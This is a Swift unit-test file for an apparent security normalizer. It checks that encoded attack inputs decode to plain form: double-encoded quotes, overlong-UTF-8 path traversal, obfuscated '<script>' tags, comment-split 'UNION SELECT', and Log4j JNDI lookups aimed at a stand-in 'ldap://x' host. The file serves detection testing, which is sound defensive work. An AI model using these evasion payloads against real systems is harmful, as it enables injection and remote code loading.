import DSToolKit
import XCTest
@testable import DSToolTrace

final class NormalizerTests: XCTestCase {
    func norm(_ s: String, plus: Bool = true) -> (String, Normalizer.Flags) {
        let n = Normalizer()
        let b = Array(s.utf8)
        b.withUnsafeBufferPointer { n.normalize($0.baseAddress!, $0.count, plusIsSpace: plus) }
        return (n.string, n.flags)
    }

    func testDecoding() {
        XCTAssertEqual(norm("a%20b+c").0, "a b c")
        XCTAssertEqual(norm("%2527").0, "'")
        XCTAssertTrue(norm("%2527").1.contains(.doubleEncoded))
        XCTAssertEqual(norm("%252527").0, "'")
        XCTAssertEqual(norm("%2B").0, "+")   // a decoded '+' stays '+'
        XCTAssertEqual(norm("%u003Cscript%u003E").0, "<script>")
        XCTAssertEqual(norm(#"\x3cscript\u003e"#).0, "<script>")
        XCTAssertEqual(norm("&#60;&#x3E;&lt;&quot;&apos;&amp;").0, "<><\"'&")
        XCTAssertEqual(norm("%c0%ae%c0%ae%c0%af").0, "../")
        XCTAssertTrue(norm("%c0%ae").1.contains(.overlongUTF8))
        XCTAssertEqual(norm("%EF%BC%9Cscript%EF%BC%9E").0, "<script>")
        XCTAssertEqual(norm("UN/**/ION/**/SELECT").0, "UN ION SELECT")
        XCTAssertEqual(norm("/*!50000UNION*/ /*!SELECT*/").0, " UNION SELECT ")
        XCTAssertEqual(norm("a\t\t b%0d%0a%0dc").0, "a b\nc")
        XCTAssertTrue(norm("a%0d%0ab").1.contains(.crlf))
        XCTAssertEqual(norm("a%00b").0, "ab")
        XCTAssertTrue(norm("a%00b").1.contains(.nulByte))
        XCTAssertEqual(norm("100%").0, "100%")
        XCTAssertEqual(norm("%zz%4").0, "%zz%4")
    }

    func testNeedsWork() {
        XCTAssertFalse(Normalizer.needsWork(Array("/api/v1/users/42?x=1".utf8), 20))
        for s in ["/a%20b", "/a+b", "/a/*b", "/a&b", "/é"] {
            let b = Array(s.utf8)
            XCTAssertTrue(Normalizer.needsWork(b, b.count), s)
        }
    }

    func testLog4jLookups() {
        func r(_ s: String) -> String { String(decoding: Log4jLookups.resolve(Array(s.utf8)), as: UTF8.self) }
        XCTAssertEqual(r("${${lower:j}ndi:ldap://x}"), "${jndi:ldap://x}")
        XCTAssertEqual(r("${${::-j}${::-n}${::-d}${::-i}:rmi://x}"), "${jndi:rmi://x}")
        XCTAssertEqual(r("${${env:BARFOO:-j}ndi${upper::}ldap://x}"), "${jndi:ldap://x}")
        XCTAssertEqual(r("plain ${name} text"), "plain ${name} text")
    }
}
